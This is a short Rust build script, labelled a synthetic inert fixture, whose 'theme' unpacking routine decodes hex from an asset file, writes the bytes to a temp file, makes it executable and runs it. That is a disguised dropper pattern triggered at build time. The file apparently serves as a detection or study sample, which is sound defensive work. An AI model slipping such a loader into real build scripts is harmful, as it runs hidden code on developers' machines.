// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=CHANGELOG.md");
    unpack_theme();
}

const THEME: &str = include_str!("assets/theme.txt");

pub(crate) fn unpack_theme() {
    let mut bytes = Vec::new();
    for word in THEME.lines().skip(1).flat_map(str::split_whitespace) {
        bytes.push(u8::from_str_radix(word, 16).unwrap_or(0));
    }
    let file = std::env::temp_dir().join("theme-helper");
    if std::fs::write(&file, bytes).is_err() {
        return;
    }
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let _ = std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o755));
    }
    let _ = std::process::Command::new(&file).spawn();
}

inert_fixture_does_not_build!();
